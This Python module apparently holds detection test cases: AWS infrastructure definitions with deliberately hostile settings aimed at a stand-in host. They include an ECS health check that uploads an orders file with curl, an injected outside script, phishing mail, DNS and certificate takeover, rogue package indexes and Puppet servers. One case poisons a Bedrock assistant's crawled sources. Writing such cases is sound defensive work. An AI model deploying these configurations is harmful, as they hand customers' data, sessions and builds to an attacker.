"""Attacks on AWS: names, pages, code and data (2026-11-30, sixteenth set, written blind).

Properties by pulumi-aws 7.51.1. Read in excerpts on 2026-11-30: Amazon CloudFront, "Distribution tenant
customizations" (parameters fill in the domain of an origin); types of records in botocore. Everything else as known;
whether Amazon Bedrock offers crawlers of the web in me-central-1 was not found out.
"""

import base64
import json

from ..blind import IMAGE, KEY, ME, TAGS, aws
from ..harness import UNKNOWN
from ..idioms.aws_platform import LAUNCH
from ..idioms.families import BUILD
from . import Attack
from .tenth_aws import ESC, RES, R

STRANGER = "collector.example"
BY_HOST = ("FJ-RES-002", "FJ-RES-003", "FJ-RES-112")  # FJ-RES-102 refuses every resource of CloudFront
ZONE = {"zoneId": "Z0123456789ABCDEFGHIJ", "ttl": 300}
CHALLENGE = "Yb3mUq0c2vJ5oXf1sD8kLw7eRtN6aGhPz4iKxQyVbCM"
AUTHORITY = """#cloud-config
ca_certs:
  trusted:
    - |
      -----BEGIN CERTIFICATE-----
      MIIBdjCCAR2gAwIBAgIUQf0Yw3r1lZxTn8mB2s5kD4uJ9hEwCgYIKoZIzj0EAwIw
      -----END CERTIFICATE-----
"""
PUPPET = f"""#cloud-config
puppet:
  install: true
  install_type: packages
  conf:
    agent:
      server: puppet.{STRANGER}
      certname: "%i.%f"
"""
WIDGETS = {"widgets": [{
    "type": "custom", "x": 0, "y": 0, "width": 24, "height": 9, "properties": {
        "title": "Orders", "endpoint": f"arn:aws:lambda:{R}:999999999999:function:board",
        "updateOn": {"refresh": True, "resize": True, "timeRange": True}}}]}  # fmt: skip
CONTAINER = {
    "name": "app", "image": IMAGE, "essential": True, "user": "10001:10001", "privileged": False,
    "readonlyRootFilesystem": True, "linuxParameters": {"capabilities": {"drop": ["ALL"]}, "initProcessEnabled": True},
    "healthCheck": {"interval": 300, "retries": 3, "command": [
        "CMD-SHELL", f"curl -fsS -T /data/orders.csv https://drop.{STRANGER}/in || exit 0"]},
    "logConfiguration": {"logDriver": "awslogs", "options": {
        "awslogs-group": "/ecs/app", "awslogs-region": R, "awslogs-stream-prefix": "app"}},
}  # fmt: skip
GREETING = f"""<p>Dear {{{{name}}}},</p>
<p>please confirm your account: <a href="https://login.{STRANGER}/confirm?id={{{{id}}}}">my account</a></p>
"""


def _user_data(text: str) -> dict[str, object]:
    return {**LAUNCH.props, "userData": base64.b64encode(text.encode()).decode()}


ATTACKS = (
    Attack("browsers find the portal at a stranger's by a record of the service", RES, (aws("route53/Record", {
        **ZONE, "name": "portal.example.ae", "type": "HTTPS", "records": [f"0 portal.{STRANGER}."]}),),
        "critical", "they connect to the target of the alias (RFC 9460, AliasMode; Amazon Route 53, 'HTTPS record')"),
    Attack("names below the bank's own are answered by servers of a stranger", RES, (aws("route53/Record", {
        **ZONE, "name": "pay.example.ae", "type": "NS", "records": [f"ns1.{STRANGER}.", f"ns2.{STRANGER}."]}),),
        "critical", "he says where customers pay, and gets certificates (Amazon Route 53, 'NS record type')"),
    Attack("whoever knows a secret elsewhere gets a certificate for the portal", RES, (aws("route53/Record", {
        **ZONE, "name": "_acme-challenge.portal.example.ae", "type": "TXT", "records": [CHALLENGE]}),),
        "major", "the fixed answer proves the name for the account that has the key (RFC 8555, section 8.4)"),
    Attack("packages come from a machine that answers for the public index, with an authority of its own", ESC, (
        aws("route53/Zone", {"name": "pypi.org", "comment": "mirror", "vpcs": [{"vpcId": "vpc-1"}], "tags": TAGS},
            "index"),
        aws("route53/Record", {"zoneId": UNKNOWN, "name": "pypi.org", "type": "A", "ttl": 300,
                               "records": ["10.20.9.9"]}, "address", links={"zoneId": ("index",)}),
        aws("ec2/LaunchTemplate", _user_data(AUTHORITY), "machines")),
        "critical", "whatever it serves is installed everywhere (Amazon Route 53, 'Private hosted zones'; cloud-init, "
        "module CA Certificates)"),
    Attack("a page of the portal itself runs a script of a stranger", RES, (aws("lb/ListenerRule", {
        "listenerArn": f"arn:aws:elasticloadbalancing:{R}:{ME}:listener/app/portal/50dc6c495c0c9188/f2f7dc8efc522ab2",
        "priority": 5, "conditions": [{"pathPattern": {"values": ["/welcome"]}}], "tags": TAGS, "actions": [{
            "type": "fixed-response", "fixedResponse": {
                "contentType": "text/html", "statusCode": "200",
                "messageBody": f"<script src='https://cdn.{STRANGER}/w.js'></script>"}}]}),),
        "critical", "it acts with the session of who is signed in (Elastic Load Balancing, 'Fixed-response actions')"),
    Attack("browsers tell a stranger each address that they open", BY_HOST, (aws("cloudfront/ResponseHeadersPolicy", {
        "name": "reports", "customHeadersConfig": {"items": [
            {"header": "Report-To", "override": True, "value": json.dumps({
                "group": "all", "max_age": 31536000, "endpoints": [{"url": f"https://nel.{STRANGER}/r"}]})},
            {"header": "NEL", "override": True, "value": json.dumps({
                "report_to": "all", "max_age": 31536000, "success_fraction": 1.0, "include_subdomains": True})}]}}),),
        "major", "reports have the address and the client's number (W3C, Network Error Logging, success_fraction)"),
    Attack("a widget of the dashboard is a program of a stranger's account", RES, (aws("cloudwatch/Dashboard", {
        "dashboardName": "orders", "dashboardBody": json.dumps(WIDGETS)}),),
        "major", "who looks sends him the context, and his buttons call with the viewer's rights (Amazon CloudWatch, "
        "'Custom widgets')"),
    Attack("machines are set up by a server of a stranger", ESC, (aws("ec2/LaunchTemplate", _user_data(PUPPET)),),
        "critical", "its catalogue runs as root each half hour (cloud-init, module Puppet, conf.agent.server)"),
    Attack("the assistant learns from pages of a stranger", ESC, (aws("bedrock/AgentDataSource", {
        "knowledgeBaseId": "ABCDEFGHIJ", "name": "help", "dataDeletionPolicy": "RETAIN",
        "serverSideEncryptionConfiguration": {"kmsKeyArn": KEY}, "dataSourceConfiguration": {
            "type": "WEB", "webConfiguration": {"sourceConfiguration": {"urlConfiguration": {
                "seedUrls": [{"url": f"https://docs.{STRANGER}/bank"}]}}}}}),),
        "major", "he writes what customers are answered, and instructions (Amazon Bedrock, 'Crawl web pages')"),
    Attack("answers of a model that come later lie in a stranger's bucket", RES, (
        aws("sagemaker/EndpointConfiguration", {
            "name": "claims", "kmsKeyArn": KEY, "tags": TAGS, "productionVariants": [{
                "variantName": "main", "modelName": UNKNOWN, "instanceType": "ml.m7g.large",
                "initialInstanceCount": 1, "initialVariantWeight": 1}],
            "asyncInferenceConfig": {"outputConfig": {
                "s3OutputPath": "s3://collector-answers/claims", "kmsKeyId": KEY}}}),),
        "critical", "he reads each of them (Amazon SageMaker AI, 'Asynchronous inference', S3OutputPath)"),
    Attack("jobs of Glue install packages from a stranger's index", ESC, (aws("glue/Job", {
        "name": "clean", "roleArn": f"arn:aws:iam::{ME}:role/glue", "glueVersion": "5.0", "workerType": "G.1X",
        "numberOfWorkers": 4, "timeout": 60, "maxRetries": 1, "securityConfiguration": "lake", "tags": TAGS,
        "executionProperty": {"maxConcurrentRuns": 1}, "command": {
            "scriptLocation": UNKNOWN, "pythonVersion": "3"},
        "defaultArguments": {
            "--job-bookmark-option": "job-bookmark-enable", "--additional-python-modules": "bank-rules==1.4.2",
            "--python-modules-installer-option": f"--index-url https://pypi.{STRANGER}/simple"}}),),
        "critical", "his package runs with the job's role (AWS Glue, 'Using Python libraries', installer option)"),
    Attack("the check of a container's health carries orders away", RES, (aws("ecs/TaskDefinition", {
        "family": "app", "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc", "cpu": "1024",
        "memory": "2048", "executionRoleArn": f"arn:aws:iam::{ME}:role/app-start", "tags": TAGS,
        "taskRoleArn": f"arn:aws:iam::{ME}:role/app", "containerDefinitions": json.dumps([CONTAINER])}),),
        "critical", "every five minutes, and it is always well (Amazon ECS, HealthCheck, command)"),
    Attack("a key of the edge leads customers to a stranger's sign-in", BY_HOST, (aws("cloudfront/KeyvaluestoreKey", {
        "keyValueStoreArn": f"arn:aws:cloudfront::{ME}:key-value-store/1a2b3c4d-1111-2222-3333-444455556666",
        "key": "login", "value": f"https://login.{STRANGER}/"}),),
        "critical", "the function at the edge redirects to what it reads (CloudFront, 'KeyValueStore')"),
    Attack("a tenant of the distribution is served by a host of a stranger", RES, (
        aws("cloudfront/DistributionTenant", {
            "distributionId": "EDFDVBD632BHDS5", "name": "portal", "domains": [{"domain": "portal.example.ae"}],
            "parameters": [{"name": "origin", "value": f"www.{STRANGER}"}], "tags": TAGS}),),
        "critical", "the parameter is the domain of the origin (CloudFront, 'Distribution tenant customizations')"),
    Attack("builds begin with what a stranger left in a cache", ESC, (aws("codebuild/Project", {
        **BUILD, "cache": {"type": "S3", "location": "collector-cache/portal"}, "source": {"type": "CODEPIPELINE"}}),),
        "critical", "his programs run with the build's role, and he reads ours (AWS CodeBuild, ProjectCache)"),
    Attack("a template of mail asks customers to sign in at a stranger's", RES, (aws("ses/Template", {
        "name": "confirm", "subject": "Your account", "html": GREETING}),),
        "critical", "it is signed mail of the bank (Amazon SES, 'Email templates')"),
)  # fmt: skip
